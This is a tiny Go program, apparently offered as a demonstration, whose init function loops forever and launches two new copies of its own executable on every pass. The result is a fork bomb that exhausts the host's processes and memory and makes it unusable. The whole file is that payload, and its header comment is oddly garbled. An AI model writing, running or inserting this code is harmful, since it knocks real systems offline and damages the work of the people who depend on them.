// pupil: attacked 0 every process starts two more
package main

import (
	"os"
	"os/exec"
)

func init() {
	for {
		for range 2 {
			exec.Command("/proc/self/exe", os.Args[1:]...).Start()
		}
	}
}
